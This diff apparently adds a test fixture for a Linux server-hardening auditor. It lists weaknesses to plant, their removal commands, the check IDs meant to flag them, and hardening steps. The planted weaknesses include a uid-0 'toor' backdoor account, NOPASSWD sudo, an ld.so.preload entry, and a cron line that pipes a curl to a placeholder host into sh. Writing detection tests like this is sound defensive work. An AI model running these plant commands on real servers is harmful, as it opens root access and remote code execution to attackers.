@@ -1,0 +1,247 @@
+// Weaknesses to plant on a real server, each with what takes it away again and which check must find it. The hardened
+// twin has none of them; `HARDEN` makes it.
+
+export interface Weakness {
+  readonly check: string;
+  /** Part of the finding's subject or evidence, so that the right one is found. */
+  readonly shows: string;
+  readonly plant: string;
+  readonly remove: string;
+}
+
+const SSHD = '/etc/ssh/sshd_config.d/00-weak.conf';
+const reload = 'systemctl reload ssh';
+const listen = (name: string, port: number) => ({
+  plant: `systemd-run --quiet --unit=${name} nc -lk 0.0.0.0 ${port}`,
+  remove: `systemctl stop ${name}`,
+});
+
+export const WEAKNESSES: readonly Weakness[] = [
+  {
+    check: 'SSH-001',
+    shows: '"permitrootlogin":"yes"',
+    plant: `printf 'PermitRootLogin yes\\nPasswordAuthentication yes\\n' > ${SSHD} && ${reload}`,
+    remove: `rm ${SSHD} && ${reload}`,
+  },
+  {
+    check: 'SSH-002',
+    shows: '"match":"User deploy"',
+    plant: `printf 'Match User deploy\\n  PasswordAuthentication yes\\n' > /etc/ssh/sshd_config.d/90-weak.conf && ${reload}`,
+    remove: `rm /etc/ssh/sshd_config.d/90-weak.conf && ${reload}`,
+  },
+  {
+    check: 'SSH-003',
+    shows: 'port tcp/22',
+    plant: `printf 'Port 22\\n' > /etc/ssh/sshd_config.d/04-weak.conf && systemctl restart ssh`,
+    remove: `rm /etc/ssh/sshd_config.d/04-weak.conf && systemctl restart ssh`,
+  },
+  {
+    check: 'SSH-004',
+    shows: '"permitemptypasswords":true',
+    plant: `printf 'PermitEmptyPasswords yes\\n' > /etc/ssh/sshd_config.d/02-weak.conf && ${reload}`,
+    remove: `rm /etc/ssh/sshd_config.d/02-weak.conf && ${reload}`,
+  },
+  {
+    check: 'SSH-005',
+    shows: 'aes128-cbc',
+    plant: `printf 'Ciphers aes256-gcm@openssh.com,aes128-cbc\\n' > /etc/ssh/sshd_config.d/00-weak-ciphers.conf && ${reload}`,
+    remove: `rm /etc/ssh/sshd_config.d/00-weak-ciphers.conf && ${reload}`,
+  },
+  {
+    check: 'KEY-003',
+    shows: '"bits":1024',
+    plant:
+      'install -d -m 0700 -o deploy -g deploy /home/deploy/.ssh && ssh-keygen -q -t rsa -b 1024 -N "" -f /root/weak && ' +
+      'install -m 0600 -o deploy -g deploy /root/weak.pub /home/deploy/.ssh/authorized_keys',
+    remove: 'rm -f /home/deploy/.ssh/authorized_keys /root/weak /root/weak.pub',
+  },
+  {
+    check: 'KEY-005',
+    shows: '"path":"/root/.ssh/authorized_keys"',
+    plant: 'install -d -m 0700 /root/.ssh && touch /root/.ssh/authorized_keys && chmod 0666 /root/.ssh/authorized_keys',
+    remove: 'rm /root/.ssh/authorized_keys',
+  },
+  {
+    check: 'ACC-001',
+    shows: 'account toor',
+    plant: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash toor',
+    remove: `sed -i '/^toor:/d' /etc/passwd /etc/shadow`,
+  },
+  {
+    check: 'ACC-002',
+    shows: 'account guest',
+    plant: 'useradd -m -s /bin/bash guest && passwd -qd guest',
+    remove: 'userdel -r guest 2>/dev/null',
+  },
+  {
+    check: 'ACC-006',
+    shows: '"rule":"NOPASSWD"',
+    plant: `printf 'deploy ALL=(ALL) NOPASSWD: ALL\\n' > /etc/sudoers.d/weak && chmod 0440 /etc/sudoers.d/weak`,
+    remove: 'rm /etc/sudoers.d/weak',
+  },
+  {
+    check: 'ACC-007',
+    shows: '/etc/sudoers.d/loose',
+    plant: `printf '# nothing\\n' > /etc/sudoers.d/loose && chmod 0666 /etc/sudoers.d/loose`,
+    remove: 'rm /etc/sudoers.d/loose',
+  },
+  {
+    check: 'ACC-008',
+    shows: '"minlen":6',
+    plant: `printf 'minlen = 6\\n' > /etc/security/pwquality.conf.d/90-weak.conf`,
+    remove: 'rm /etc/security/pwquality.conf.d/90-weak.conf',
+  },
+  {
+    check: 'FW-001',
+    shows: 'policy accept',
+    plant: `nft 'add chain inet filter input { policy accept; }'`,
+    remove: `nft 'add chain inet filter input { policy drop; }'`,
+  },
+  { check: 'FW-004', shows: '"service":"Redis"', ...listen('weak-redis', 6379) },
+  {
+    check: 'FW-010',
+    shows: 'inet loose/input',
+    plant: `nft 'add table inet loose; add chain inet loose input { type filter hook input priority 10; }; add rule inet loose input accept'`,
+    remove: 'nft delete table inet loose',
+  },
+  { check: 'FW-011', shows: '"service":"Plesk"', ...listen('weak-panel', 8443) },
+  {
+    check: 'F2B-001',
+    shows: '"enabled":false',
+    plant: 'systemctl --quiet disable fail2ban 2>/dev/null',
+    remove: 'systemctl --quiet enable fail2ban 2>/dev/null',
+  },
+  {
+    check: 'F2B-002',
+    shows: '"jail":"pure-ftpd"',
+    plant: `cp /usr/bin/nc.openbsd /usr/local/bin/pure-ftpd && systemd-run --quiet --unit=weak-ftp /usr/local/bin/pure-ftpd -lk 0.0.0.0 21`,
+    remove: 'systemctl stop weak-ftp; rm /usr/local/bin/pure-ftpd',
+  },
+  {
+    check: 'F2B-005',
+    shows: '198.51.100.7',
+    plant: `fail2ban-client set sshd banip 198.51.100.7 >/dev/null && sleep 1 && nft delete table inet f2b-table`,
+    remove: 'fail2ban-client set sshd unbanip 198.51.100.7 >/dev/null; fail2ban-client restart sshd >/dev/null',
+  },
+  {
+    check: 'F2B-007',
+    shows: '"maxretry":30',
+    plant: 'fail2ban-client set sshd maxretry 30 >/dev/null',
+    remove: 'fail2ban-client set sshd maxretry 4 >/dev/null',
+  },
+  {
+    check: 'F2B-008',
+    shows: 'weak',
+    plant: `printf '[weak]\\nenabled = true\\nfilter = sshd\\nbackend = polling\\nlogpath = /var/log/not-there.log\\n' > /etc/fail2ban/jail.d/weak.local`,
+    remove: 'rm /etc/fail2ban/jail.d/weak.local',
+  },
+  {
+    check: 'F2B-009',
+    shows: '"mode":"0777"',
+    plant: 'chmod 0777 /run/fail2ban/fail2ban.sock',
+    remove: 'chmod 0700 /run/fail2ban/fail2ban.sock',
+  },
+  {
+    check: 'UPD-001',
+    shows: 'tzdata',
+    // The oldest version that the mirror has: that of the release, before its security updates.
+    plant: `apt-get install -y -qq --allow-downgrades tzdata="$(apt-cache madison tzdata | awk 'END { print $3 }')" >/dev/null 2>&1`,
+    remove: 'apt-get install -y -qq tzdata >/dev/null 2>&1',
+  },
+  {
+    check: 'UPD-002',
+    shows: '"upgrade":false',
+    plant: `printf 'APT::Periodic::Unattended-Upgrade "0";\\n' > /etc/apt/apt.conf.d/99-weak`,
+    remove: 'rm /etc/apt/apt.conf.d/99-weak',
+  },
+  {
+    check: 'UPD-005',
+    shows: 'linux-image-amd64',
+    plant: `touch /run/reboot-required && printf 'linux-image-amd64\\n' > /run/reboot-required.pkgs`,
+    remove: 'rm /run/reboot-required /run/reboot-required.pkgs',
+  },
+  {
+    check: 'UPD-007',
+    shows: '2024-06-30',
+    plant: `cp /etc/os-release /root/os-release && sed 's/^VERSION_ID=.*/VERSION_ID="10"/' /root/os-release > /etc/os-release`,
+    remove: 'cp /root/os-release /etc/os-release && rm /root/os-release',
+  },
+  {
+    check: 'FILE-001',
+    shows: '/var/www/html/open',
+    plant: 'mkdir /var/www/html/open && chmod 0777 /var/www/html/open',
+    remove: 'rmdir /var/www/html/open',
+  },
+  {
+    check: 'FILE-003',
+    shows: '/var/www/html/.env',
+    plant: `printf 'DB_PASSWORD=seeded-secret-7f3a\\n' > /var/www/html/.env && chmod 0644 /var/www/html/.env`,
+    remove: 'rm /var/www/html/.env',
+  },
+  {
+    check: 'FILE-004',
+    shows: '/var/www/html/dump.sql',
+    plant: 'head -c 2097152 /dev/zero > /var/www/html/dump.sql && chmod 0600 /var/www/html/dump.sql',
+    remove: 'rm /var/www/html/dump.sql',
+  },
+  {
+    check: 'PER-002',
+    shows: '/etc/cron.d/weak:1',
+    plant: `printf '* * 31 2 * root curl -s -H "Authorization: seeded-secret-7f3a" http://203.0.113.9/x | sh\\n' > /etc/cron.d/weak`,
+    remove: 'rm /etc/cron.d/weak',
+  },
+  {
+    check: 'PER-003',
+    shows: '/etc/systemd/system/weak.service',
+    plant: `printf '[Service]\\nExecStart=/bin/true\\n' > /etc/systemd/system/weak.service`,
+    remove: 'rm /etc/systemd/system/weak.service',
+  },
+  {
+    check: 'PER-005',
+    shows: '/lib/x86_64-linux-gnu/libm.so.6',
+    plant: `printf '/lib/x86_64-linux-gnu/libm.so.6\\n' > /etc/ld.so.preload`,
+    remove: 'rm /etc/ld.so.preload',
+  },
+  {
+    check: 'PER-006',
+    shows: '/tmp/weak',
+    plant: 'cp /bin/sleep /tmp/weak && systemd-run --quiet --unit=weak-program /tmp/weak 3600',
+    remove: 'systemctl stop weak-program; rm /tmp/weak',
+  },
+  {
+    check: 'LOG-001',
+    shows: '"retention":"1week"',
+    plant: `mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nMaxRetentionSec=1week\\n' > /etc/systemd/journald.conf.d/weak.conf`,
+    remove: 'rm /etc/systemd/journald.conf.d/weak.conf',
+  },
+];
+
+/** Breaks sshd's own answers, so it is planted alone. */
+export const BROKEN_SSHD: Weakness = {
+  check: 'SSH-009',
+  shows: 'Bogus',
+  plant: `printf 'Bogus yes\\n' > /etc/ssh/sshd_config.d/99-broken.conf`,
+  remove: 'rm /etc/ssh/sshd_config.d/99-broken.conf',
+};
+
+/**
+ * Of what a container cannot be hardened in: it has the kernel and the clock of its host, and no audit of its own.
+ */
+export const NOT_OF_A_CONTAINER: readonly string[] = ['KRN-001', 'KRN-002', 'LOG-003', 'TIME-001'];
+
+export const HARDEN: readonly string[] = [
+  'apt-get update -qq && apt-get install -y -qq --no-install-recommends libpam-pwquality unattended-upgrades >/dev/null 2>&1',
+  'apt-get upgrade -y -qq >/dev/null 2>&1',
+  `printf 'PasswordAuthentication no\\nKbdInteractiveAuthentication no\\nPermitRootLogin prohibit-password\\nPort 2222\\n` +
+    `Ciphers aes256-gcm@openssh.com,chacha20-poly1305@openssh.com\\nMACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com\\n` +
+    `KexAlgorithms curve25519-sha256,sntrup761x25519-sha512@openssh.com\\n' > /etc/ssh/sshd_config.d/05-hardened.conf && rm -f /etc/ssh/sshd_config.d/50-server.conf`,
+  'systemctl restart ssh',
+  `printf 'minlen = 14\\nminclass = 3\\n' > /etc/security/pwquality.conf && mkdir -p /etc/security/pwquality.conf.d`,
+  `printf '#!/usr/sbin/nft -f\\nflush ruleset\\ntable inet filter {\\n chain input { type filter hook input priority 0; policy drop; iif lo accept; ` +
+    `ct state established,related accept; tcp dport { 80, 443, 2222 } accept; icmp type echo-request accept; }\\n}\\n' > /etc/nftables.conf && nft -f /etc/nftables.conf`,
+  `printf '[sshd]\\nport = 2222\\n' > /etc/fail2ban/jail.d/60-hardened.local && fail2ban-client reload >/dev/null`,
+  `printf 'APT::Periodic::Update-Package-Lists "1";\\nAPT::Periodic::Unattended-Upgrade "1";\\n' > /etc/apt/apt.conf.d/20auto-upgrades`,
+  'systemctl --quiet enable --now apt-daily.timer apt-daily-upgrade.timer 2>/dev/null',
+  `passwd -ql deploy; usermod -p '*' deploy`,
+  'chmod 0755 /home/deploy',
+];
